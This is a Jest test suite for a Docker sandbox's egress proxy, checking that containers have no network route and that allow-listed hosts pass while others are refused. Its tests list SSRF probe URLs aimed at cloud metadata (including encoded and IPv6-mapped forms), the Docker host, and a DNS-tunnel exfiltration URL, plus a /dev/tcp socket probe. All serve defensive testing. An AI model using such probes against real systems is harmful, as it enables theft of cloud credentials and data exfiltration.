import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import { PROTOCOL } from '../../src/docker/agent/protocol.ts';
import { pack } from 'tar-stream';
import type { AddressRules } from '../../src/docker/egress/admit.ts';
import type { EgressPolicy } from '../../src/docker/egress/egress-policy.ts';
import { RequestLog } from '../../src/docker/egress/request-log.ts';
import { forbiddenAddress } from '../../src/docker/egress/resolve-host.ts';
import { containerOptions } from '../../src/docker/container-options.ts';
import { SANDBOX_LIMITS } from '../../src/docker/sandbox-options.ts';
import { weakerThanAsked } from '../../src/docker/weaker-than-asked.ts';
import { openBench } from './support/sandbox-bench.ts';
import type { SandboxBench } from './support/sandbox-bench.ts';
import { openTlsUpstream, openUpstream } from './support/upstream.ts';

const folder = mkdtempSync(join(tmpdir(), 'dsh-egress-'));
const opened: { close(): unknown }[] = [];
afterEach(async () => {
  for (const thing of opened.splice(0).reverse()) await thing.close();
  expect(readdirSync(folder)).toEqual([]);
});
afterAll(() => rmSync(folder, { recursive: true }));

function use<T extends { close(): unknown }>(thing: T): T {
  opened.push(thing);
  return thing;
}

/** Names of a made-up internet: those below `.test` are this machine's loopback, `metadata.evil.example` is not. */
const rules: AddressRules = {
  resolve: async (host) => [{ address: host.endsWith('.test') ? '127.0.0.1' : '169.254.169.254', family: 4 }],
  forbidden: (address) => (address === '127.0.0.1' ? undefined : forbiddenAddress(address)),
};

async function open(policy: EgressPolicy, files = {}): Promise<{ bench: SandboxBench; log: RequestLog }> {
  const log = new RequestLog();
  const bench = use(await openBench({ egress: { folder, policy, record: log.add, rules } }, files));
  return { bench, log };
}

async function output(bench: SandboxBench, command: string): Promise<string> {
  const bash = bench.bash();
  const { stdout, stderr } = await bash.run(bash.resolve({ command }));
  return stdout.text + stderr.text;
}

/** Like curl, which the image need not have: plain requests by the proxy variables, redirects followed. */
const FETCH = `
import { get } from 'node:http';
const read = (url) => new Promise((resolve) => {
  const request = get(url, { timeout: 10_000 }, async (response) => {
    if (response.statusCode === 302) return resolve(read(response.headers.location));
    const body = (await response.setEncoding('utf8').toArray()).join('').trim();
    resolve(response.statusCode === 200 ? body : response.statusCode + ' ' + body);
  });
  request.on('error', (error) => resolve(error.code));
});
for (const url of process.argv.slice(2)) console.log(await read(url));
`;
const fetching = (...urls: string[]) => `node fetch.mjs '${urls.join("' '")}'`;

describe('bot-security', () => {
  it('X3 a container without a way out has no route, no proxy and no socket', async () => {
    const bench = use(await openBench({}, { 'fetch.mjs': FETCH }));

    expect(
      await output(bench, 'env | grep -i proxy; ls /dsh; ls /sys/class/net; cat /proc/net/route | tail -n +2'),
    ).toBe("lo\nls: cannot access '/dsh': No such file or directory\n");
    expect(await output(bench, fetching('http://1.1.1.1/', 'http://packages.example.com/'))).toBe(
      'ENETUNREACH\nEAI_AGAIN\n',
    );
    expect(await output(bench, '(echo > /dev/tcp/127.0.0.1/3128) 2>&1')).toContain('Connection refused');
  });

  it('X3 lets the hosts of the list through, and the container itself still has no network', async () => {
    const upstream = use(await openUpstream((request, response) => response.end(`hello ${request.headers.host}`)));
    const { bench, log } = await open(
      { network: 'allow-list', hosts: [`*.registry.test:${upstream.port}`] },
      { 'fetch.mjs': FETCH },
    );

    expect(await output(bench, fetching(`http://a.registry.test:${upstream.port}/x`))).toBe(
      `hello a.registry.test:${upstream.port}\n`,
    );
    expect(await output(bench, 'ls /sys/class/net; cat /proc/net/route | tail -n +2')).toBe('lo\n');
    expect(await output(bench, `NODE_USE_ENV_PROXY= ${fetching('http://1.1.1.1/')}`)).toBe('ENETUNREACH\n');
    const [info] = await bench.containers();
    expect(info!.HostConfig.NetworkMode).toBe('none');
    expect(log.take()).toEqual([{ host: 'a.registry.test', port: upstream.port, verdict: 'allowed', count: 1 }]);
  });

  it('X3 Node’s own fetch goes the same way, by TLS', async () => {
    const upstream = use(await openTlsUpstream((_request, response) => response.end('secured')));
    const { bench } = await open({ network: 'allow-list', hosts: [`registry.test:${upstream.port}`] });
    const script = `fetch('https://registry.test:${upstream.port}/').then(async (r) => console.log(await r.text()), (e) => console.log(e.cause))`;

    expect(await output(bench, `NODE_TLS_REJECT_UNAUTHORIZED=0 NODE_NO_WARNINGS=1 node -e "${script}"`)).toBe(
      'secured\n',
    );
  });

  it('X3 a runtime that does not pass the socket, and a way out that nobody asked for, are faults', async () => {
    const hello = {
      ...{
        type: 'hello' as const,
        call: 0 as const,
        protocol: PROTOCOL,
        uid: 1,
        capabilities: '0',
        noNewPrivileges: true,
      },
      ...{ seccomp: 2, rootReadOnly: true, workspaceReadOnly: false, interfaces: [], missing: [], entries: [] },
    };
    const asked = { mode: 'workspace-write' as const, uid: 1, entries: [] };

    expect(weakerThanAsked({ ...hello, egress: true }, { ...asked, egress: true })).toEqual([]);
    expect(weakerThanAsked({ ...hello, egress: false }, { ...asked, egress: true })).toEqual([
      'its runtime does not pass the socket of the network proxy',
    ]);
    expect(weakerThanAsked({ ...hello, egress: true }, { ...asked, egress: false })).toHaveLength(1);
  });

  it('X3 a socket that nobody answers is refused at start, and nothing is left of the attempt', async () => {
    const { startContainer } = await import('../../src/docker/start-container.ts');
    const { checkSandbox } = await import('../../src/docker/check-sandbox.ts');
    const bench = use(await openBench());
    const egressDir = mkdtempSync(join(tmpdir(), 'dsh-dead-'));
    writeFileSync(join(egressDir, 's'), '');

    const start = startContainer({ ...bench.options, egressDir }, await checkSandbox(bench.docker, bench.options));

    await expect(start).rejects.toMatchObject({
      code: 'SANDBOX_UNAVAILABLE',
      message: expect.stringContaining('does not pass the socket of the network proxy'),
    });
    rmSync(egressDir, { recursive: true });
    expect(await bench.containers()).toHaveLength(1);
  });

  it('X3 closing the sandbox closes its way out', async () => {
    const { bench } = await open({ network: 'full', hosts: [] });
    const [name] = readdirSync(folder);
    await bench.close();

    expect(readdirSync(folder)).toEqual([]);
    const socket = connect(join(folder, name!, 's'));
    await expect(new Promise((_, reject) => socket.on('error', reject))).rejects.toMatchObject({ code: 'ENOENT' });
  });
});

describe('sandbox', () => {
  it('N7 the network is no part of the mode: a read-only sandbox may have it, one that may write need not', () => {
    const plan = {
      ...{ image: 'i', tree: '/t', uid: 1, agentVolume: 'a', limits: SANDBOX_LIMITS },
      labels: { session: 's', installation: 'i', boot: 'b' },
    };
    const withWay = containerOptions({ ...plan, mode: 'read-only', egressDir: '/data/e' }).HostConfig!;
    const without = containerOptions({ ...plan, mode: 'workspace-write' }).HostConfig!;

    expect(withWay.Mounts).toContainEqual(
      expect.objectContaining({ Source: '/data/e', Target: '/dsh/egress', ReadOnly: true }),
    );
    expect(without.Mounts!.map(({ Target }) => Target)).not.toContain('/dsh/egress');
    expect([withWay.NetworkMode, without.NetworkMode]).toEqual(['none', 'none']);
  });
});

describe('bash', () => {
  it('N7 has proxy variables exactly where there is a network', async () => {
    const { bench } = await open({ network: 'allow-list', hosts: [] });
    const names = await output(bench, 'env | grep -i proxy | cut -d= -f1 | sort | tr "\\n" " "');
    expect(names).toBe(
      'CARGO_HTTP_PROXY HTTPS_PROXY HTTP_PROXY MAVEN_OPTS NODE_USE_ENV_PROXY NO_PROXY PIP_PROXY http_proxy https_proxy no_proxy npm_config_https_proxy npm_config_proxy ',
    );
    expect(await output(bench, 'echo $HTTPS_PROXY')).toBe('http://127.0.0.1:3128\n');
  });
});

describe('cases', () => {
  it('N14 without a network an install fails at once; with the list the registry answers', async () => {
    const tarball = await tarballOf({ name: 'dep', version: '1.0.0', main: 'index.js' }, 'module.exports = 42;\n');
    const registry = use(await openTlsUpstream((_request, response) => response.end(tarball)));
    const files = projectWith(tarball, `https://registry.test:${registry.port}/dep/-/dep-1.0.0.tgz`);
    const install =
      'npm_config_strict_ssl=false npm ci --no-audit --no-fund --loglevel=error 2>&1; node -p "require(\'dep\')" 2>&1';

    const offline = use(await openBench({}, files));
    const withoutRetries = `npm_config_fetch_retries=0 ${install}`;
    expect(await output(offline, withoutRetries)).toMatch(/EAI_AGAIN|ENOTFOUND/);
    expect(registry.connections).toBe(0);

    const { bench, log } = await open({ network: 'allow-list', hosts: [`registry.test:${registry.port}`] }, files);
    expect(await output(bench, install)).toMatch(/added 1 package[^]*\n42\n$/);
    expect(readFileSync(join(bench.tree, 'node_modules/dep/index.js'), 'utf8')).toContain('42');
    expect(log.take()).toEqual([{ host: 'registry.test', port: registry.port, verdict: 'allowed', count: 1 }]);
  });

  it('N14 metadata, the host, its network and DNS tunnels are refused with the reason', async () => {
    const upstream = use(
      await openUpstream((_request, response) =>
        response.writeHead(302, { location: 'http://169.254.169.254/' }).end(),
      ),
    );
    const hosts = [`registry.test:${upstream.port}`, 'metadata.evil.example'];
    const { bench, log } = await open({ network: 'allow-list', hosts }, { 'fetch.mjs': FETCH });
    const urls = [
      'http://169.254.169.254/latest/meta-data/',
      'http://2852039166/',
      'http://0xa9fea9fe/',
      'http://[::ffff:169.254.169.254]/',
      'http://host.docker.internal/',
      'http://172.17.0.1/',
      'http://192.168.1.1/',
      'http://c2VjcmV0.tunnel.evil.example/',
      'http://metadata.evil.example/',
      `http://registry.test:${upstream.port}/redirects`,
    ];

    const lines = (await output(bench, fetching(...urls))).trim().split('\n');

    expect(lines).toHaveLength(urls.length);
    for (const line of lines) expect(line).toMatch(/^403 The network of this sandbox refused /);
    expect(upstream.requests).toHaveLength(1);
    expect(log.take().filter(({ verdict }) => verdict === 'refused')).toEqual([
      { host: '169.254.169.254', port: 80, verdict: 'refused', reason: 'an address and not a name', count: 4 },
      { host: '::ffff:a9fe:a9fe', port: 80, verdict: 'refused', reason: 'an address and not a name', count: 1 },
      { host: 'host.docker.internal', port: 80, verdict: 'refused', reason: 'not on the list', count: 1 },
      { host: '172.17.0.1', port: 80, verdict: 'refused', reason: 'an address and not a name', count: 1 },
      { host: '192.168.1.1', port: 80, verdict: 'refused', reason: 'an address and not a name', count: 1 },
      { host: 'c2vjcmv0.tunnel.evil.example', port: 80, verdict: 'refused', reason: 'not on the list', count: 1 },
      {
        host: 'metadata.evil.example',
        port: 80,
        verdict: 'refused',
        reason: 'resolves to a forbidden address: metadata',
        count: 1,
      },
    ]);
  });
});

async function tarballOf(manifest: object, script: string): Promise<Buffer> {
  const archive = pack();
  archive.entry({ name: 'package/package.json' }, JSON.stringify(manifest));
  archive.entry({ name: 'package/index.js' }, script);
  archive.finalize();
  return gzipSync(await buffer(archive));
}

function projectWith(tarball: Buffer, resolved: string): Record<string, string> {
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const manifest = { name: 'p', version: '1.0.0', dependencies: { dep: '1.0.0' } };
  const packages = { '': manifest, 'node_modules/dep': { version: '1.0.0', resolved, integrity } };
  return {
    'package.json': JSON.stringify(manifest),
    'package-lock.json': JSON.stringify({ ...manifest, lockfileVersion: 3, requires: true, packages }),
  };
}
